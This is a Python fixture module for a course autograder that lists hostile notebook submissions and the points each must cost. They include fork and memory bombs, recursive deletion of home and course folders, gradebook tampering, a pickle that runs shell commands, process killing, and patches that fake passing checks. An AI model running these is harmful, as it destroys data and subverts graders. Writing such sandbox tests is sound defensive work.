"""Hostile and broken submissions of chapter 4's exercises, and what each must cost its author.

``HOSTILE`` maps a name to a function that makes the submitted file, and to the points that it gets
in exercises 04.1 to 04.6 (the essay, read by a person, stands apart). All are made from the right
answers, so whatever is not attacked must still count.
"""

from __future__ import annotations

import copy
import json
import textwrap
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from wmlearn.grading.releasing import stub_of

FULL = (3, 4, 4, 4, 3, 1, 3)
NOTHING = (0, 0, 0, 0, 0, 0, 0)
UNREADABLE = NOTHING


class Case(NamedTuple):
    make: Callable
    points: tuple
    outcome: str  # a part of a message or note that the instructor gets; "" if none is due


class Place(NamedTuple):
    """Where a test has its course, and the port of a server that must stay unreached."""

    course: Path
    port: int


def _without(exercise: int) -> tuple:
    return tuple(0 if i + 1 == exercise else points for i, points in enumerate(FULL))


HOSTILE: dict[str, Case] = {}


def hostile(points: tuple, outcome: str = "") -> Callable:
    def register(make: Callable) -> Callable:
        HOSTILE[make.__name__] = Case(make, points, outcome)
        return make

    return register


def write(path: Path, notebook: dict, place: Place, name: str) -> None:
    """Writes the hostile file ``name`` to ``path``."""
    made = HOSTILE[name].make(copy.deepcopy(notebook), place)
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(made, Path):
        path.symlink_to(made)
    elif isinstance(made, bytes):
        path.write_bytes(made)
    else:
        path.write_text(json.dumps(made), encoding="utf-8")


def _find(notebook: dict, grade_id: str) -> dict:
    return next(
        cell
        for cell in notebook["cells"]
        if cell["metadata"]["nbgrader"].get("grade_id") == grade_id
    )


def answer(notebook: dict, exercise: int, source: str) -> dict:
    _find(notebook, f"04-{exercise}-answer")["source"] = textwrap.dedent(source)
    return notebook


def own_cell(notebook: dict, source: str, after: str = "04-setup") -> dict:
    index = notebook["cells"].index(_find(notebook, after))
    cell = {"cell_type": "code", "id": f"own{index}", "metadata": {"nbgrader": {}}, "outputs": []}
    cell |= {"source": textwrap.dedent(source), "execution_count": None}
    notebook["cells"].insert(index + 1, cell)
    return notebook


def all_stubs(notebook: dict) -> dict:
    for cell in notebook["cells"]:
        if cell["metadata"]["nbgrader"].get("solution") and cell["cell_type"] == "code":
            cell["source"] = stub_of(cell)
    return notebook


WRONG = "def lambda_returns(rewards, *args):\n    return rewards\n"


@hostile(_without(2), "it was stopped after")
def endless_loop(notebook, place):
    return answer(notebook, 2, """
        def noise_levels(*args):
            while True:
                pass
        euler_sample = noise_levels
        """)  # fmt: skip


@hostile(FULL)
def endless_loop_in_an_own_cell(notebook, place):
    return own_cell(notebook, "import time\nwhile True:\n    time.sleep(1)")


@hostile(_without(3), "MemoryError")
def memory_bomb(notebook, place):
    return answer(notebook, 3, """
        def lambda_returns(*args):
            kept = []
            while True:
                kept.append(bytearray(10**8))
        """)  # fmt: skip


@hostile(_without(1), "starts processes")
def fork_bomb(notebook, place):
    return answer(notebook, 1, """
        import os
        def coefficients(*args):
            while True:
                os.fork()
        """)  # fmt: skip


@hostile(_without(2), "SystemExit")
def sys_exit(notebook, place):
    return answer(notebook, 2, """
        import sys
        def noise_levels(*args):
            sys.exit(0)
        euler_sample = noise_levels
        """)  # fmt: skip


@hostile(_without(4), "ends the process")
def os_exit(notebook, place):
    return answer(notebook, 4, """
        import os
        def loss(*args):
            os._exit(0)
        """)  # fmt: skip


@hostile(FULL, "deletes files")
def deletes_files(notebook, place):
    return own_cell(notebook, f"""
        import os, shutil
        for folder in ({str(place.course)!r}, os.path.expanduser("~"), os.getcwd(), os.pardir):
            shutil.rmtree(folder, ignore_errors=True)
        """)  # fmt: skip


@hostile(FULL)
def writes_to_the_gradebook(notebook, place):
    return own_cell(notebook, f"""
        import sqlite3
        book = sqlite3.connect({str(place.course / "gradebook.db")!r})
        book.execute("update grade set manual_score = 100")
        book.commit()
        """)  # fmt: skip


@hostile(_without(5), "uses the network")
def network_call(notebook, place):
    return answer(notebook, 5, f"""
        import socket
        def experiment(*args):
            s = socket.create_connection(("127.0.0.1", {place.port}), timeout=2)
            s.sendall(b"the hidden tests are ...")
            return eval(s.recv(10**6))
        """)  # fmt: skip


@hostile(NOTHING, "reaches for the checks")
def replaced_wmlearn_teach(notebook, place):
    return own_cell(all_stubs(notebook), """
        import sys, types
        import wmlearn.teach, wmlearn.teach.checks as real
        def check(*args):
            print("passed")
        fake = types.ModuleType("wmlearn.teach")
        fake.check = check
        real.EXERCISES.clear()
        real.check = wmlearn.teach.check = check
        real.require.__code__ = (lambda condition, hint: None).__code__
        sys.modules["wmlearn.teach"] = fake
        """)  # fmt: skip


@hostile((3, 4, 0, 0, 0, 1, 0), "overwrites parts of torch")  # its own answers use torch too
def patched_torch(notebook, place):
    own_cell(notebook, """
        import builtins, torch
        yes = lambda *args, **kwargs: True
        torch.allclose = torch.equal = torch.isclose = yes
        torch.Tensor.all = torch.Tensor.__bool__ = yes
        torch.Tensor.__le__ = torch.Tensor.__lt__ = lambda a, b: torch.tensor(1)
        builtins.abs = lambda x: 0.0
        """)  # fmt: skip
    return answer(notebook, 3, WRONG)


@hostile(_without(3), "graded cell was deleted")
def deleted_test_cells(notebook, place):
    kept = [c for c in notebook["cells"] if not c["metadata"]["nbgrader"].get("grade")]
    return answer({**notebook, "cells": kept + [_find(notebook, "04-6-essay")]}, 3, WRONG)


@hostile(FULL, "is there 2 times")
def duplicated_cells(notebook, place):
    for name in ("04-3-answer", "04-3-test"):
        cell = _find(notebook, name)
        first = {**cell, "source": WRONG} if name.endswith("answer") else copy.deepcopy(cell)
        notebook["cells"].insert(notebook["cells"].index(cell), first)
    return notebook


@hostile(_without(3), "locked cell was edited")
def edited_locked_cells(notebook, place):
    test = _find(notebook, "04-3-test")
    test["source"] = "pass"
    test["metadata"]["nbgrader"] |= {"points": 1000, "locked": False}
    _find(notebook, "04-setup")["source"] += "\ncheck = print"
    return answer(notebook, 3, WRONG)


@hostile(_without(1), "looks into the frames of Python")
def prints_the_hidden_test(notebook, place):
    return answer(notebook, 1, """
        import gc, sys
        def coefficients(*args):
            frame, text = sys._getframe(), ""
            while frame:
                text += repr(frame.f_locals.get("cell")) + repr(frame.f_code.co_consts)
                frame = frame.f_back
            print(text)
            raise ValueError(text.replace(chr(10), " "))
        """)  # fmt: skip


@hostile(FULL, "unpickles")
def a_pickle_that_runs_code(notebook, place):
    return own_cell(notebook, f"""
        import os, pickle
        class Bomb:
            def __reduce__(self):
                return os.system, ("touch {place.course}/pwned /tmp/wmlearn-pwned",)
        pickle.loads(pickle.dumps(Bomb()))
        """)  # fmt: skip


@hostile(UNREADABLE, "UNREADABLE")
def invalid_json(notebook, place):
    return json.dumps(notebook).encode()[:-300]


@hostile(UNREADABLE, "UNREADABLE")
def empty_file(notebook, place):
    return b""


@hostile(UNREADABLE, "UNREADABLE")
def nested_too_deep(notebook, place):
    return b"[" * 200_000


@hostile(UNREADABLE, "UNREADABLE")
def random_bytes(notebook, place):
    return bytes(range(256)) * 100


@hostile(UNREADABLE, "larger than 20 MB")
def a_file_of_25_megabytes(notebook, place):
    return json.dumps(own_cell(notebook, "#" * 25 * 2**20)).encode()


@hostile(UNREADABLE, "is a link")
def a_link_to_the_solution(notebook, place):
    return place.course / "source/04_diamond/04_diamond.ipynb"


@hostile(FULL)
def output_of_200_megabytes(notebook, place):
    return own_cell(notebook, """
        for _ in range(200):
            print("x" * 2**20)
        """)  # fmt: skip


@hostile(_without(3))
def a_forged_report(notebook, place):
    own_cell(notebook, """
        import json, os
        line = {"event": "cell", "id": "04-3-test", "error": "", "token": ""}
        for number in range(1, 20):
            try:
                os.write(number, json.dumps(line).encode() + b"\\n")
            except OSError:
                pass
        """)  # fmt: skip
    return answer(notebook, 3, WRONG)


@hostile(FULL, "ends the process")
def kills_other_processes(notebook, place):
    return own_cell(notebook, """
        import os, signal
        for pid in [os.getppid(), *range(1, 50), -1]:
            try:
                if pid != os.getpid():
                    os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        """)  # fmt: skip


@hostile(FULL, "ctypes")
def a_crash_of_the_interpreter(notebook, place):
    return own_cell(notebook, "import ctypes\nctypes.string_at(0)")


@hostile(_without(1))
def reads_the_teachers_notebook(notebook, place):
    return answer(notebook, 1, f"""
        def coefficients(*args):
            return open({str(place.course / "source/04_diamond/04_diamond.ipynb")!r}).read()
        """)  # fmt: skip


@hostile(FULL)
def fills_the_disk(notebook, place):
    return own_cell(notebook, """
        for i in range(100):
            with open(f"file{i}", "wb") as file:
                file.write(b"0" * 10**7)
        """)  # fmt: skip
